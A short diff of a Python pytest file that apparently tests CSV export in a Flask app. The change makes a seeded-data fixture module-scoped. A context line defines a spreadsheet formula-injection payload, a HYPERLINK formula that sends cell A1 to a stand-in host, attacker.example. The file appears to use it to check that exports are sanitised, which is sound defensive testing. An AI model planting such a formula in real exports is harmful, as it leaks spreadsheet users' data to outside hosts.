@@ -21,9 +21,10 @@ SCOPES = {"overall", "dimension", "item", "principle", "facet"}
 HOSTILE_TITLE = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'
 
 
-@pytest.fixture()
-def demo(app: Flask) -> Demo:
-    return seed_results(app)
+@pytest.fixture(scope="module")
+def demo(module_app: Flask) -> Demo:
+    """Seeded once for the module; each test's writes are rolled back (see ``module_app``)."""
+    return seed_results(module_app)
 
 
 def read_csv(body: bytes) -> list[dict[str, str]]:
